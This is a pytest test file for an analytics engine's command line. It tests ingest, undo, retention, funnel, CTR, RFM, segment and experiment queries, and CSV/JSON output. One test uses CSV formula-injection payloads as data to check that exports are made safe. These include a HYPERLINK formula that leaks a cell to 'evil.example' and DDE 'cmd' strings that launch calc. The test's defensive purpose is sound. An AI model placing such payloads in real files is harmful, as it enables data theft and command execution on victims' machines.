"""``python -m engine``: exit codes, one clear line on refusal, and CSV/JSON output."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from engine.__main__ import main

ROOT = Path(__file__).resolve().parent.parent
GOOD = "user_id,event_type,event_time,channel,amount\nu1,view,2024-01-08 10:00:00,douyin,\nu1,purchase,2024-01-08 11:00:00,douyin,20\n"


def run_cli(*args, warehouse=None, env=None):
    environment = {**os.environ, **(env or {})}
    if warehouse:
        environment["POND_WAREHOUSE"] = str(warehouse)
    return subprocess.run([sys.executable, "-m", "engine", *map(str, args)], cwd=ROOT, env=environment,
                          capture_output=True, text=True, timeout=120)


def test_refused_file_exits_non_zero_with_one_line_and_no_traceback(tmp_path, write):
    bad = write("bad.csv", "a,b\n1,2\n")
    done = run_cli("ingest", bad, warehouse=tmp_path / "w.duckdb")
    assert done.returncode == 1
    assert done.stderr.strip().splitlines() == [
        "pond: refused bad.csv: no user column found among: a, b; map one with --map user_id=COLUMN "
        "(on the Upload page: the user_id picker) or rename its header, e.g. to user_id"]
    assert "Traceback" not in done.stderr


def test_ingest_uploads_undo_round_trip(tmp_path, write, capsys):
    db = tmp_path / "cli.duckdb"
    good = write("good.csv", GOOD)
    assert main(["--warehouse", str(db), "ingest", str(good), "--tz", "Asia/Shanghai"]) == 0
    out = capsys.readouterr().out
    assert "good.csv: upload 1 (generic): read 2, imported 2, rejected 0, duplicates skipped 0" in out
    assert main(["--warehouse", str(db), "uploads", "--format", "json"]) == 0
    uploads = json.loads(capsys.readouterr().out)
    assert [(u["upload_id"], u["status"], u["rows_imported"]) for u in uploads] == [(1, "imported", 2)]
    assert main(["--warehouse", str(db), "query", "kpis", "--from", "2024-01-08", "--to", "2024-01-08"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "kpi,label,value,previous,change,compared_with" and lines[1].startswith("dau,DAU (average),1.0,")
    assert lines[1].endswith("no comparison: data starts on 2024-01-08, so the day before (2024-01-07) has none\"")
    assert main(["--warehouse", str(db), "undo", "1"]) == 0
    assert "removed 2 events" in capsys.readouterr().out
    assert main(["--warehouse", str(db), "undo", "1"]) == 1
    assert "already undone" in capsys.readouterr().err


def test_warehouse_from_environment_and_mapping_override(tmp_path, write):
    db = tmp_path / "env.duckdb"
    path = write("odd.csv", "who,what,when_it_happened\nu1,view,2024-01-01 10:00:00\n")
    done = run_cli("ingest", path, "--map", "user_id=who", "--map", "event_type=what",
                   "--map", "event_time=when_it_happened", warehouse=db)
    assert done.returncode == 0, done.stderr
    summary = json.loads(run_cli("summary", warehouse=db).stdout)
    assert (summary["events"], summary["users"]) == (1, 1)


def test_demo_then_queries(tmp_path, capsys):
    db = str(tmp_path / "demo.duckdb")
    assert main(["--warehouse", db, "demo", "--users", "100", "--days", "20", "--end", "2026-03-01"]) == 0
    assert "demo: 100 users" in capsys.readouterr().out
    assert main(["--warehouse", db, "demo"]) == 1
    assert "--replace" in capsys.readouterr().err
    assert main(["--warehouse", db, "query", "daily-events", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert {"day", "event_type", "events", "amount"} == set(rows[0])
    assert main(["--warehouse", db, "query", "channels"]) == 0
    assert "wechat_group" in capsys.readouterr().out
    assert main(["--warehouse", db, "timezone"]) == 0
    assert capsys.readouterr().out.strip() == "Asia/Shanghai"
    assert main(["--warehouse", db, "timezone", "Nowhere/Land"]) == 1


def test_query_on_an_empty_warehouse_says_what_to_do(tmp_path, capsys):
    assert main(["--warehouse", str(tmp_path / "e.duckdb"), "query", "kpis"]) == 1
    assert "holds no events yet; import a file or build the demo" in capsys.readouterr().err


def test_bad_command_line_exits_2(capsys):
    with pytest.raises(SystemExit) as stop:
        main(["ingest"])
    assert stop.value.code == 2


def test_inspect_shows_the_plan(write, capsys):
    assert main(["inspect", str(write("a.csv", GOOD))]) == 0
    out = capsys.readouterr().out
    assert "comma-separated text (utf-8), header: yes, format: generic" in out
    assert "user_id       <- user_id" in out


def test_retention_query_csv_and_json(tmp_path, write, capsys):
    db = str(tmp_path / "r.duckdb")
    events = write("r.csv", "user_id,event_type,event_time\nu1,purchase,2024-01-01 10:00\n"
                            "u1,purchase,2024-01-02 10:00\nu2,purchase,2024-01-01 11:00\n")
    assert main(["--warehouse", db, "ingest", str(events)]) == 0
    capsys.readouterr()
    assert main(["--warehouse", db, "query", "retention", "--period", "day", "--start-event", "purchase",
                 "--return-event", "purchase", "--mode", "on", "--from", "2024-01-01", "--to", "2024-01-02"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "cohort,period,users,cohort_size,rate", "2024-01-01,0,2,2,1.0", "2024-01-01,1,1,2,0.5"]
    assert main(["--warehouse", db, "query", "retention", "--period", "day", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert rows[1] == {"cohort": "2024-01-01", "period": 1, "users": 1, "cohort_size": 2, "rate": 0.5}


def test_retention_query_matching_filters_and_hours(tmp_path, write, capsys):
    db = str(tmp_path / "r.duckdb")
    # u1 views c1 at 10:00 and c2 at 11:00 next day; u2 views c2 twice, an hour apart on day 1
    events = write("r.csv", "user_id,event_type,event_time,category\nu1,view,2024-01-01 10:00,c1\n"
                            "u2,view,2024-01-01 10:30,c2\nu2,view,2024-01-01 11:30,c2\n"
                            "u1,view,2024-01-02 11:00,c2\n")
    assert main(["--warehouse", db, "ingest", str(events)]) == 0
    capsys.readouterr()
    day = ["--warehouse", db, "query", "retention", "--period", "day", "--start-event", "view", "--return-event",
           "view"]
    assert main([*day, "--match", "category"]) == 0  # u1 came back to another category: no match
    assert capsys.readouterr().out.splitlines()[1:] == ["2024-01-01,0,2,2,1.0", "2024-01-01,1,0,2,0.0"]
    assert main([*day, "--return-where", "category = c2"]) == 0  # u1's day-2 view is on c2
    assert capsys.readouterr().out.splitlines()[1:] == ["2024-01-01,0,2,2,1.0", "2024-01-01,1,1,2,0.5"]
    assert main([*day, "--start-where", "category = c1"]) == 0  # only u1 starts on c1
    assert capsys.readouterr().out.splitlines()[1:] == ["2024-01-01,0,1,1,1.0", "2024-01-01,1,1,1,1.0"]
    assert main(["--warehouse", db, "query", "retention", "--period", "hour", "--start-event", "view",
                 "--return-event", "view", "--from", "2024-01-01", "--to", "2024-01-01", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)  # cohort 10:00 = u1, u2; u2 is back at 11:00
    assert [(r["period"], r["users"]) for r in rows[:2]] == [(0, 2), (1, 1)]
    assert rows[0]["cohort"].startswith("2024-01-01T10:00")


def test_funnel_query(tmp_path, write, capsys):
    db = str(tmp_path / "f.duckdb")
    events = write("f.csv", "user_id,event_type,event_time,item_id\nu1,view,2024-01-01 10:00,A\n"
                            "u1,cart,2024-01-01 10:05,A\nu1,purchase,2024-01-01 10:09,A\nu2,view,2024-01-01 11:00,B\n")
    assert main(["--warehouse", db, "ingest", str(events)]) == 0
    capsys.readouterr()
    assert main(["--warehouse", db, "query", "funnel", "--steps", "view,cart,purchase", "--window-days", "7",
                 "--same-item", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [(r["step"], r["event_type"], r["users"], r["overall_conversion"]) for r in rows] == [
        (1, "view", 2, 1.0), (2, "cart", 1, 0.5), (3, "purchase", 1, 0.5)]
    # a filter on step 1 (only u2 views item B, and goes no further) against one on every step (item A)
    assert main(["--warehouse", db, "query", "funnel", "--steps", "view,cart,purchase",
                 "--step-where", "1", "item = B"]) == 0
    assert [line.split(",")[3] for line in capsys.readouterr().out.splitlines()[1:]] == ["1", "0", "0"]
    assert main(["--warehouse", db, "query", "funnel", "--steps", "view,cart,purchase", "--where", "item = A"]) == 0
    assert [line.split(",")[3] for line in capsys.readouterr().out.splitlines()[1:]] == ["1", "1", "1"]
    # by session: u1's view, cart and buy lie within 30 minutes, one session; u2 views alone
    assert main(["--warehouse", db, "query", "funnel", "--steps", "view,cart,purchase", "--count-by", "session"]) == 0
    assert [line.split(",")[3] for line in capsys.readouterr().out.splitlines()[1:]] == ["2", "1", "1"]
    assert main(["--warehouse", db, "query", "funnel", "--steps", "view,cart", "--step-where", "3", "item = A"]) == 1
    assert "--step-where takes a step number 1 to 2" in capsys.readouterr().err
    assert main(["--warehouse", db, "query", "funnel", "--steps", "view"]) == 1
    assert "2 to 8 steps" in capsys.readouterr().err


def test_ctr_query(tmp_path, write, capsys):
    db = str(tmp_path / "c.duckdb")
    events = write("c.csv", "user_id,event_type,event_time,content_id\nu1,impression,2024-01-01 10:00,c1\n"
                            "u2,impression,2024-01-01 10:00,c1\nu1,click,2024-01-01 10:01,c1\n")
    assert main(["--warehouse", db, "ingest", str(events)]) == 0
    capsys.readouterr()
    assert main(["--warehouse", db, "query", "ctr", "--by", "content", "--format", "json"]) == 0
    row = json.loads(capsys.readouterr().out)[0]
    assert (row["key"], row["impressions"], row["clicks"], row["ctr"]) == ("c1", 2, 1, 0.5)
    assert 0 < row["ctr_low"] < 0.5 < row["ctr_high"] < 1


def test_lifecycle_stickiness_and_communities_queries(tmp_path, capsys):
    db = str(tmp_path / "l.duckdb")
    assert main(["--warehouse", db, "demo", "--users", "100", "--days", "20", "--end", "2026-03-01"]) == 0
    capsys.readouterr()
    for analysis in ("lifecycle", "stickiness", "communities"):
        assert main(["--warehouse", db, "query", analysis, "--format", "json"]) == 0
        assert json.loads(capsys.readouterr().out)
    assert main(["--warehouse", db, "query", "lifecycle", "--period", "day"]) == 0
    assert capsys.readouterr().out.splitlines()[0] == "period,status,users,complete"


def test_rfm_query_columns(tmp_path, write, capsys):
    db = str(tmp_path / "rfm.duckdb")
    events = write("o.csv", "user_id,event_type,event_time,amount\nu1,purchase,2024-01-01 10:00,10\n"
                            "u2,purchase,2024-01-05 10:00,30\n")
    assert main(["--warehouse", db, "ingest", str(events)]) == 0
    capsys.readouterr()
    assert main(["--warehouse", db, "query", "rfm", "--format", "csv"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "user_id,recency_days,frequency,monetary,r,f,m,segment"
    assert lines[1].startswith("u2,0,1,30.0,5,")


def test_saved_segment_from_the_command_line(tmp_path, write, capsys):
    from engine.customers.segments import Condition, SegmentDefinition, save_segment
    from engine.store import warehouse

    db = tmp_path / "s.duckdb"
    events = write("s.csv", "user_id,event_type,event_time\nu1,purchase,2024-01-01 10:00\nu2,view,2024-01-01 11:00\n")
    assert main(["--warehouse", str(db), "ingest", str(events)]) == 0
    with warehouse.connect(db) as con:
        save_segment(con, "Buyers", SegmentDefinition((Condition("event", event="purchase"),)))
    capsys.readouterr()
    assert main(["--warehouse", str(db), "query", "segment", "--name", "Buyers", "--format", "csv"]) == 0
    assert [line.split(",")[0] for line in capsys.readouterr().out.splitlines()] == ["user_id", "u1"]
    assert main(["--warehouse", str(db), "query", "segments", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["name"] == "Buyers"
    assert main(["--warehouse", str(db), "query", "segment", "--name", "Nobody"]) == 1
    assert "no saved segment named 'Nobody'" in capsys.readouterr().err


def test_experiment_query_json(tmp_path, capsys):
    db = str(tmp_path / "x.duckdb")
    assert main(["--warehouse", db, "demo", "--users", "400", "--days", "30", "--end", "2026-03-01"]) == 0
    capsys.readouterr()
    assert main(["--warehouse", db, "query", "experiment", "--name", "new_checkout", "--format", "json"]) == 0
    payload = json.loads(capsys.readouterr().out)
    assert payload["control"] == "control" and {v["variant"] for v in payload["variants"]} == {"control", "treatment"}
    assert {c["metric"] for c in payload["comparisons"]} == {"conversion", "ctr", "gmv_per_user"}
    assert main(["--warehouse", db, "query", "experiment"]) == 1


def test_influencers_query(tmp_path, write, capsys):
    db = str(tmp_path / "n.duckdb")
    events = write("n.csv", "user_id,event_type,event_time,referrer_id\na,signup,2024-01-01 10:00,\n"
                            "b,signup,2024-01-02 10:00,a\nc,signup,2024-01-03 10:00,b\n")
    assert main(["--warehouse", db, "ingest", str(events)]) == 0
    capsys.readouterr()
    assert main(["--warehouse", db, "query", "influencers", "--format", "csv"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("user_id,pagerank,reach_users,reach_gmv,community")
    assert lines[1].startswith("a,") and ",2,0.0," in lines[1]


HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]


def test_every_csv_the_command_line_writes_is_formula_safe(tmp_path, capsys):
    import csv
    import io

    from engine.admin import audit
    from engine.store import warehouse

    source = tmp_path / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(["user_id", "event_type", "event_time", "amount"])
        for user in HOSTILE_IDS:
            out.writerow([user, "purchase", "2024-01-08 10:00:00", "20"])
        out.writerow(["=cmd|' /C calc'!A0", "view", "not a time", ""])  # rejected: its raw line is exported
    db = str(tmp_path / "hostile.duckdb")
    assert main(["--warehouse", db, "ingest", str(source), "--keep-personal"]) == 0
    capsys.readouterr()

    def csv_rows(*command) -> list[dict]:
        assert main(["--warehouse", db, *command]) == 0
        return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))

    users = {row["user_id"] for row in csv_rows("query", "rfm", "--to", "2024-01-08", "--format", "csv")}
    assert users == {"'" + user for user in HOSTILE_IDS}
    rejected = csv_rows("rejects", "1")
    assert len(rejected) == 1 and rejected[0]["user_id"] == "'=cmd|' /C calc'!A0"
    with warehouse.connect(db) as con:  # a failed sign-in's actor is whatever was typed as the name
        audit.record(con, "@SUM(1+1)", "sign_in_failed", "wrong name or password", ok=False)
    actors = {row["actor"] for row in csv_rows("audit", "--format", "csv")}
    assert "'@SUM(1+1)" in actors and "@SUM(1+1)" not in actors


def test_negative_numbers_stay_numbers_in_csv():
    import io

    import pandas as pd

    from engine.store.export import write_csv

    out = io.StringIO()
    write_csv(pd.DataFrame({"user_id": ["-1+1", "-5", "u1"], "amount": [-1.5, 2.0, -3.0], "n": [-1, 0, 2]}), out)
    assert out.getvalue().splitlines() == ["user_id,amount,n", "'-1+1,-1.5,-1", "'-5,2.0,0", "u1,-3.0,2"]


def test_query_where_and_breakdown(tmp_path, write, capsys):
    db = tmp_path / "cli.duckdb"
    events = GOOD + "u2,view,2024-01-08 12:00:00,wechat,\nu2,purchase,2024-01-08 12:30:00,wechat,5\n"
    assert main(["--warehouse", str(db), "ingest", str(write("two.csv", events))]) == 0
    capsys.readouterr()
    day = ["--from", "2024-01-08", "--to", "2024-01-08"]
    assert main(["--warehouse", str(db), "query", "kpis", *day, "--where", "channel = wechat", "--format", "json"]) == 0
    kpis = {row["kpi"]: row["value"] for row in json.loads(capsys.readouterr().out)}
    assert (kpis["dau"], kpis["orders"], kpis["gmv"]) == (1.0, 1, 5.0)
    assert main(["--warehouse", str(db), "query", "kpis", *day, "--breakdown", "channel", "--where", "amount > 1",
                 "--format", "json"]) == 0
    rows = {row["breakdown"]: row["gmv"] for row in json.loads(capsys.readouterr().out)}
    assert rows == {"All": 25.0, "douyin": 20.0, "wechat": 5.0}
    assert main(["--warehouse", str(db), "query", "churn", "--where", "channel = wechat"]) == 1
    assert "--where does not apply to churn" in capsys.readouterr().err
    assert main(["--warehouse", str(db), "query", "kpis", "--where", "shoe_size = 42"]) == 1
    assert "there is no property 'shoe_size'" in capsys.readouterr().err
